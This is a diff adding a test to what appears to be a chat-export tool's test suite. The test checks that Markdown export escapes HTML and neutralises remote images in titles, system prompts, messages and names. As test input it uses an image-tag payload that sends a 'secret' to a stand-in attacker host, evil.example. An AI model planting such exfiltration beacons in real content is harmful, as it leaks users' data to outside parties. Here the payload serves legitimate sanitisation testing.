@@ -103,3 +103,22 @@ test('the web-page export shows the computed figure as its card, checks in words
   for (const jargon of ['query_table ok', 'table_figure', 'asks_figure', ' UTC<'])
     assert.ok(!page.includes(jargon), `the web page says ${jargon}`);
 });
+
+test('the Markdown export makes inert what people and models wrote: the title, the instructions, your messages, the name', () => {
+  const leak = '<img src=https://evil.example/p?d=secret>';
+  const md = threadMarkdown(
+    {
+      ...view,
+      title: `Title ${leak}`,
+      systemPrompt: `Be brief. ${leak}`,
+      messages: view.messages.map((m) => (m.role === 'user' ? { ...m, content: `${m.content} ${leak} ![x](https://evil.example/i.png)` } : m)),
+    },
+    `Ember ${leak}`,
+    'UTC',
+  );
+  assert.ok(!md.includes('<img'), 'no raw tag is left');
+  assert.match(md, /^# Title &lt;img src=https:\/\/evil\.example\/p\?d=secret>$/m);
+  assert.match(md, /^Be brief\. &lt;img /m);
+  assert.match(md, /## Ember &lt;img /);
+  assert.match(md, /\[image: x\]\(https:\/\/evil\.example\/i\.png\)/, 'a remote image in your message is a link');
+});
